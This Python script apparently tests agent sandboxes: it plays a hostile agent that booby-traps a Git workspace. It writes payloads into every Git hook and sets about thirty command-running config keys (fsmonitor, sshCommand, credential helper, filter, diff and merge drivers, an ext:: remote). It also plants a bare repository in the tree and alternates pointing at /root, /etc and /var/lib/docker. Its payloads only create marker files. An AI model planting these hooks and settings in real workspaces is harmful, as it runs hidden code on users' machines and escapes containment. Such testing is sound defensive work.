"""A hostile agent that leaves a workspace whose Git runs programs, wherever somebody uses Git in it.

Arguments: the prefix of the marker files. Each payload makes `<prefix>-<name>` when it runs. Prints
`PAYLOAD <name>` for each, and `FIRED <name>` for those that ran in here, where they can do no harm.
"""

import os
import subprocess
import sys

PREFIX = sys.argv[1]
HOOKS = """applypatch-msg pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit pre-rebase post-checkout
post-merge pre-push post-rewrite pre-receive update post-receive post-update reference-transaction push-to-checkout
pre-auto-gc sendemail-validate fsmonitor-watchman post-index-change proc-receive""".split()
SETTINGS = {
    "fsmonitor": ("core.fsmonitor", "{}"), "ssh-command": ("core.sshCommand", "{}"), "editor": ("core.editor", "{}"),
    "pager": ("core.pager", "{}"), "sequence-editor": ("sequence.editor", "{}"), "askpass": ("core.askPass", "{}"),
    "git-proxy": ("core.gitProxy", "{}"), "alternate-refs": ("core.alternateRefsCommand", "{}"),
    "credential-helper": ("credential.helper", "!{}"), "diff-external": ("diff.external", "{}"),
    "gpg-program": ("gpg.program", "{}"), "filter-clean": ("filter.evil.clean", "{}; cat"),
    "filter-smudge": ("filter.evil.smudge", "{}; cat"), "filter-process": ("filter.evil2.process", "{}"),
    "textconv": ("diff.evil.textconv", "{}; cat"), "diff-command": ("diff.evil3.command", "{}"),
    "merge-driver": ("merge.evil.driver", "{}"), "upload-pack": ("remote.origin.uploadpack", "{}"),
    "receive-pack": ("remote.origin.receivepack", "{}"), "ext-url": ("remote.evil.url", "ext::{}"),
    "alias": ("alias.st", "!{}"), "pack-objects-hook": ("uploadpack.packObjectsHook", "{}"),
    "interactive-filter": ("interactive.diffFilter", "{}"), "trailer-command": ("trailer.x.cmd", "{}"),
    "web-browser": ("browser.evil.cmd", "{}"), "difftool": ("difftool.evil.cmd", "{}"),
    "submodule-update": ("submodule.x.update", "!{}"), "tar-command": ("tar.evil.command", "{}"),
}


def run(*words):
    return subprocess.run(words, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)


def script(name):
    path = os.path.abspath(f".git/evil-{name}")
    with open(path, "w") as file:
        file.write(f"#!/bin/sh\ntouch {PREFIX}-{name}\n")
    os.chmod(path, 0o755)
    print("PAYLOAD", name, flush=True)
    return path


def main():
    os.makedirs(".git/hooks", exist_ok=True)
    for hook in HOOKS:
        made = script(f"hook-{hook}")
        target = f".git/hooks/{hook}"
        with open(made) as source, open(target, "w") as file:
            file.write(source.read())
        os.chmod(target, 0o755)
    # The paths of the host are other ones: each program is named absolutely and relatively.
    for name, (key, value) in SETTINGS.items():
        made = script(name)
        run("git", "config", key, value.format(f"touch {PREFIX}-{name}" if " " in value or "!" in value else made))
    included = script("include-if")
    with open(".git/evil-config", "w") as file:
        file.write(f"[core]\n\teditor = {included}\n\tfsmonitor = {included}\n")
    run("git", "config", "includeIf.gitdir:/.path", os.path.abspath(".git/evil-config"))
    run("git", "config", "include.path", "evil-config")
    with open(".gitattributes", "w") as file:
        file.write("*.evil filter=evil diff=evil merge=evil\n*.evil2 filter=evil2\n*.evil3 diff=evil3\n")
    for name in ("a.evil", "b.evil2", "c.evil3"):
        with open(name, "w") as file:
            file.write("text\n")
    # A bare repository in the tree, with its own hooks and settings.
    bare = script("bare-in-tree")
    for folder in ("bare/objects", "bare/refs", "bare/hooks"):
        os.makedirs(folder, exist_ok=True)
    with open("bare/HEAD", "w") as file:
        file.write("ref: refs/heads/main\n")
    with open("bare/config", "w") as file:
        file.write(f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {bare}\n")
    # Alternates that lead elsewhere on the host.
    print("PAYLOAD alternates", flush=True)
    with open(".git/objects/info/alternates", "a") as file:
        file.write("/root\n/etc\n/var/lib/docker\n")
    for program in (["status"], ["add", "a.evil"], ["diff"], ["commit", "-qm", "x", "--allow-empty"], ["checkout", "-q", "--", "."]):
        run("git", *program)
    fired = sorted(name[len(os.path.basename(PREFIX)) + 1:] for name in os.listdir("/tmp") if name.startswith(os.path.basename(PREFIX)))
    for name in fired:
        print("FIRED", name, flush=True)
    print("END OF PAYLOADS", flush=True)


main()
